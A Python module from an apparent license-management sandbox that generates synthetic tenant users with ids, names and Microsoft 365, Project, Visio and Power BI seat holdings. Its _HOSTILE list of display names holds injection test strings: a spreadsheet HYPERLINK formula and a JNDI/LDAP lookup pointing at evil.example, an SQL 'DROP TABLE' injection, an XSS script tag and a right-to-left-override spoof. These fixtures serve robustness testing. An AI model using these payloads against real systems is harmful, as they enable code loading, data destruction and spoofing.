"""Everybody without a story, made lazily: 16 sheets of 1,000 prototypes, repeated in blocks under other ids and names.

Block 0 is sheet 0 as it stands. Block n is sheet n mod 16 in which every `TOKEN` is replaced by the block's digits,
which are part of the object id and end the name before the @. So a block costs one bytes.replace, not 1,000 people,
and a number, an id and a name can be turned into each other without any index of a million entries.
"""

from __future__ import annotations

import random
from dataclasses import replace
from typing import Final

from seatkeeper.sandbox.world.catalog import ServicePlan, Sku, skus
from seatkeeper.sandbox.world.dice import dice, object_guid
from seatkeeper.sandbox.world.people import DAY, DOMAIN, Holding, Person

SHEETS: Final = 16
ROWS: Final = 1_000
TOKEN: Final = "~~~~"  # noqa: S105 - a placeholder of fixed width, so places in rendered text stay the same
BLOCKS: Final = 10_000

_GIVEN: Final = (
    "Mara", "Nils", "Ingrid", "Tariq", "Sofia", "Jonas", "Amina", "Erik", "Priya", "Lars", "Chloe", "Mateo", "Yuki",
    "Hanna", "Omar", "Freya", "Ivan", "Lena", "Diego", "Signe", "Kofi", "Astrid", "Wei", "Nora", "Pavel", "Zara",
    "Emil", "Aisha", "Tomas", "Selma", "Bruno", "Linnea", "Ravi", "Elsa", "Viktor", "Maja", "Samir", "Thea",
    "Anton", "Liv",
)  # fmt: skip
_FAMILY: Final = (
    "Olsen", "Hansen", "Larsen", "Khan", "Novak", "Silva", "Moreau", "Tanaka", "Fischer", "Rossi", "Nilsen",
    "Okafor", "Svensson", "Petrov", "Lindgren", "Garcia", "Haddad", "Virtanen", "Mbeki", "Jensen", "Kowalski",
    "Andersen", "Costa", "Weber", "Sato", "Eriksen", "Dubois", "Ahmed", "Popescu", "Marino", "Strand", "Holm",
    "Vega", "Bakker", "Kaya", "Nakamura", "Lund", "Horvat", "Peeters", "Solberg",
)  # fmt: skip
# Anybody who may set a display name is a possible attacker; each has broken some program.
_HOSTILE: Final = (
    "Sinéad O'Brien",
    '=HYPERLINK("http://evil.example","Click")',
    "Robert'); DROP TABLE users;--",
    "<script>alert(1)</script>",
    "\u202egnp.exe\u202c Admin",
    "Zoë Žižek-Müller 👩‍🚀",
    "Ва́ся Пупкин",
    "محمد الأحمد",
    '"quoted", with; separators\tand tabs',
    "Z\u0351\u036b\u0343a\u0329l\u034fgo Lie",
    "-2+3 Maier",
    "{{7*7}} ${jndi:ldap://evil.example}",
)
_SUITES: Final = ("SPE_E3", "SPE_E5", "ENTERPRISEPACK", "STANDARDPACK", "SPE_F1", "O365_BUSINESS_PREMIUM")
_PROJECT: Final = ("PROJECTPROFESSIONAL", "PROJECTPREMIUM", "PROJECT_P1", "PROJECTESSENTIALS", "PROJECTONLINE_PLAN_1")
_VISIO: Final = ("VISIOONLINE_PLAN1", "VISIOCLIENT", "VISIO_PLAN1_DEPT", "VISIO_PLAN2_DEPT")
_POWER_BI: Final = ("POWER_BI_PRO", "PBI_PREMIUM_PER_USER", "POWER_BI_PRO_DEPT", "PBI_PREMIUM_PER_USER_ADDON")
_DYNAMICS: Final = ("DYN365_BUSCENTRAL_ESSENTIAL", "DYN365_ENTERPRISE_SALES", "DYN365_SALES_PREMIUM")
_TITLES: Final = (None, "Project Manager", "Engineer", "Planner", "Analyst", "Controller", "Director")
_DEPARTMENTS: Final = (None, "Construction", "Finance", "IT", "Operations", "Research", "Sales")


class Crowd:
    """The prototypes of one seed. `start` is the tenant's first instant in seconds; dates are counted back from it."""

    def __init__(self, seed: int, start: int, *, copilot: bool = False, everything: bool = False) -> None:
        self.seed = seed
        self.copilot, self.everything = copilot or everything, everything
        self.sold = skus(everything=everything)
        self.start = start
        self.groups = tuple(object_guid(seed, "group", n) for n in range(6))
        self._sheets: dict[int, list[Person]] = {}
        self._by_upn: dict[int, dict[str, int]] = {}
        self._by_id: dict[int, dict[str, int]] = {}
        self._shift = dice(seed, "blocks").randrange(BLOCKS)

    def token(self, block: int) -> str:
        """The four digits of a block; neighbours differ a lot, so ids do not show who came when."""
        return f"{(block * 7919 + self._shift) % BLOCKS:04d}"

    def block_of(self, token: str) -> int:
        """The block that has these four digits."""
        return (int(token) - self._shift) * pow(7919, -1, BLOCKS) % BLOCKS

    def sheet(self, number: int) -> list[Person]:
        """The 1,000 prototypes of a sheet, with the placeholder where a block's digits go."""
        found = self._sheets.get(number)
        if found is None:
            taken: set[str] = set()
            found = [self._prototype(number, row, taken) for row in range(ROWS)]
            self._sheets[number] = found
            self._by_id[number] = {p.id.replace(TOKEN, ""): row for row, p in enumerate(found)}
            self._by_upn[number] = {p.upn.replace(TOKEN, "").lower(): row for row, p in enumerate(found)}
        return found

    def person(self, place: int) -> Person:
        """The person at a place of the crowd (the first has place 0), as at the tenant's first instant."""
        block, row = divmod(place, ROWS)
        proto = self.sheet(block % SHEETS)[row]
        digits, suffix = self.token(block), self.token(block) if block else ""
        return replace(
            proto,
            number=place,
            id=proto.id.replace(TOKEN, digits),
            upn=proto.upn.replace(TOKEN, suffix),
            mail=proto.mail and proto.mail.replace(TOKEN, suffix),
        )

    def place_of_id(self, id_: str) -> int | None:
        """Where the person with this object id stands, by taking the id apart."""
        digits = id_[24:28]
        if len(id_) != 36 or not (digits.isascii() and digits.isdigit()):
            return None
        block = self.block_of(digits)
        self.sheet(block % SHEETS)
        row = self._by_id[block % SHEETS].get(id_[:24] + id_[28:])
        return None if row is None else block * ROWS + row

    def place_of_upn(self, upn: str) -> int | None:
        """Where the person with this user principal name stands; case does not matter."""
        upn = upn.lower()
        local, at, domain = upn.partition("#ext#@" if "#ext#@" in upn else "@")
        digits = local[-4:]
        if len(digits) == 4 and digits.isascii() and digits.isdigit():
            block = self.block_of(digits)
            self.sheet(block % SHEETS)
            row = self._by_upn[block % SHEETS].get(local[:-4] + at + domain)
            if row is not None and block:
                return block * ROWS + row
        self.sheet(0)
        return self._by_upn[0].get(upn)

    def _prototype(self, sheet: int, row: int, taken: set[str]) -> Person:
        roll = dice(self.seed, "person", sheet, row)
        machine, guest = roll.random() < 0.02, roll.random() < 0.06
        given, family = roll.choice(_GIVEN), roll.choice(_FAMILY)
        display = roll.choice(_HOSTILE) if roll.random() < 0.015 else f"{given} {family}"
        local = _free_name("svc." + family if machine else f"{given}.{family}", taken, roll)
        upn = f"{local}{TOKEN}@{DOMAIN}"
        mail: str | None = upn if roll.random() > 0.05 and not machine else None
        if guest:
            mail = f"{local}{TOKEN}@Partner.example"
            upn = f"{local}_partner.example{TOKEN}#EXT#@{DOMAIN}"
        id_ = object_guid(self.seed, "id", sheet, row)
        created = self.start - roll.randrange(200 * DAY, 3000 * DAY)
        nameless = machine or roll.random() < 0.03
        holdings, removed = self._seats(roll, created) if not machine else ((), ())
        visio = self._visio(sheet, row, created) if not machine else ()
        copilot = self._copilot(sheet, row, created) if self.copilot and not machine else ()
        more = self._more(sheet, row, created) if self.everything and not machine else ()
        return Person(
            number=row,
            id=f"{id_[:24]}{TOKEN}{id_[28:]}",
            upn=upn,
            mail=mail,
            given=None if nameless else given,
            surname=None if nameless else family,
            display="Service " + family if machine else display,
            created=None if roll.random() < 0.02 else created,
            enabled=roll.random() > 0.04,
            guest=guest,
            department=roll.choice(_DEPARTMENTS),
            title=roll.choice(_TITLES),
            country=roll.choice(("NO", "SE", "DE", "US", "IN", None)),
            holdings=(*holdings, *visio, *copilot, *more),
            removed=removed,
            habit="machine" if machine else _habit(roll),
        )

    def _seats(
        self, roll: random.Random, created: int
    ) -> tuple[tuple[Holding, ...], tuple[tuple[ServicePlan, int], ...]]:
        """About 85 % hold a suite, 12 % a Project seat, 2 % a Dynamics licence with Project inside."""
        held: list[Holding] = []
        if roll.random() < 0.85:
            held.append(self._holding(roll, created, self.sold[roll.choice(_SUITES)]))
        if roll.random() < 0.12:
            held.append(self._holding(roll, created, self.sold[roll.choices(_PROJECT, (50, 15, 24, 8, 3))[0]]))
            if roll.random() < 0.06 and held[-1].sku.part_number != "PROJECT_P1":
                held.append(self._holding(roll, created, self.sold["PROJECT_P1"]))
        if roll.random() < 0.02:
            held.append(self._holding(roll, created, self.sold["DYN365_TEAM_MEMBERS"]))
        removed: tuple[tuple[ServicePlan, int], ...] = ()
        if roll.random() < 0.03:
            three = skus()["PROJECTPROFESSIONAL"]
            gone = self._date(roll, created)
            removed = tuple((plan, gone) for plan in three.plans if not any(plan in h.sku.plans for h in held))
        return tuple(held), removed

    def _visio(self, sheet: int, row: int, created: int) -> tuple[Holding, ...]:
        """About 6 % hold a Visio seat. It is drawn from numbers of its own, so that nothing else depends on it."""
        roll = dice(self.seed, "visio", sheet, row)
        if roll.random() >= 0.06:
            return ()
        first = roll.choices(_VISIO, (50, 35, 8, 7))[0]
        second = [_VISIO[0]] if roll.random() < 0.08 and first != _VISIO[0] else []
        return tuple(self._holding(roll, created, skus()[name]) for name in (first, *second))

    def _copilot(self, sheet: int, row: int, created: int) -> tuple[Holding, ...]:
        """About 8 % hold a Copilot seat, drawn from numbers of its own, too."""
        roll = dice(self.seed, "copilot", sheet, row)
        return () if roll.random() >= 0.08 else (self._holding(roll, created, skus()["Microsoft_365_Copilot"]),)

    def _more(self, sheet: int, row: int, created: int) -> tuple[Holding, ...]:
        """About 12 % hold a Power BI seat, 12 % the free licence, 8 % a Dynamics 365 seat: from numbers of its own."""
        roll = dice(self.seed, "everything", sheet, row)
        names = []
        if (luck := roll.random()) < 0.12:
            names += roll.choices(_POWER_BI, (60, 22, 8, 10))
            if names[0] != "POWER_BI_PRO" and roll.random() < 0.3:
                names.append("POWER_BI_PRO")
        elif luck < 0.24:
            names.append("POWER_BI_STANDARD")
        if roll.random() < 0.08:
            names += roll.choices(_DYNAMICS, (45, 40, 15))
        return tuple(self._holding(roll, created, self.sold[name]) for name in names)

    def _holding(self, roll: random.Random, created: int, sku: Sku) -> Holding:
        luck = roll.random()
        disabled: frozenset[str] = frozenset()
        if sku.kind == "seat" and luck < 0.12:
            disabled = frozenset({roll.choice(sku.plans).id}) if luck > 0.02 else frozenset(p.id for p in sku.plans)
        trouble = roll.random()
        seat = sku.kind == "seat"
        status = "Warning" if seat and trouble < 0.02 else "Suspended" if seat and trouble < 0.035 else "Enabled"
        groups: tuple[str | None, ...] = (None,)
        if roll.random() < 0.4:
            groups = (roll.choice(self.groups),) if roll.random() < 0.8 else (None, roll.choice(self.groups))
        error = "DependencyViolation" if seat and roll.random() < 0.01 else "None"
        return Holding(sku, self._date(roll, created), disabled, status, groups, error)

    def _date(self, roll: random.Random, created: int) -> int:
        """Some day between the account's first and yesterday."""
        return created + int(roll.random() * max(self.start - DAY - created, 1))


def _free_name(name: str, taken: set[str], roll: random.Random) -> str:
    """The name before the @: unique in the sheet; one in ten is written with capitals."""
    base, count = name.lower(), 1
    local = base
    while local in taken:
        count += 1
        local = f"{base}{count}"
    taken.add(local)
    return local.title() if roll.random() < 0.1 else local


def _habit(roll: random.Random) -> str:
    """What a seat holder does with Project: most come, some stopped, a quarter never came."""
    return roll.choices(("weekly", "lapsed", "never"), (60, 15, 25))[0]
